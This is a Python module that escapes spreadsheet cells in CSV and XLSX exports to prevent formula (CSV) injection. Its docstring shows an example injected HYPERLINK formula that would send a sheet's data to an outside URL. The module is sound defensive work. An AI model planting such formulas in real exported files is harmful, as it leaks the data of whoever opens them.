"""Cells of exported spreadsheets (CSV, XLSX) that Excel or LibreOffice will not run.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab / carriage return
before one) is read as a formula when the file is opened: a billing account labelled
``=HYPERLINK("https://…?"&A1, "…")`` would send the sheet's data away (OWASP "CSV
injection"). Exports write user text through these helpers: in CSV such a cell gets a
leading ``'`` (shown as text, the usual defence); in XLSX the cell is typed as a string.
"""

from __future__ import annotations

from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value`` for a CSV cell: text that would be read as a formula gets a leading ``'``;
    numbers and other text are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Any) -> list[Any]:
    """:func:`csv_cell` on every value of a row."""
    return [csv_cell(v) for v in values]


def xlsx_as_text(cells: Any) -> None:
    """Type as strings the openpyxl cells that hold text starting with ``=`` (openpyxl
    stores those as formulas)."""
    for cell in cells:
        if cell.data_type == "f":
            cell.data_type = "s"
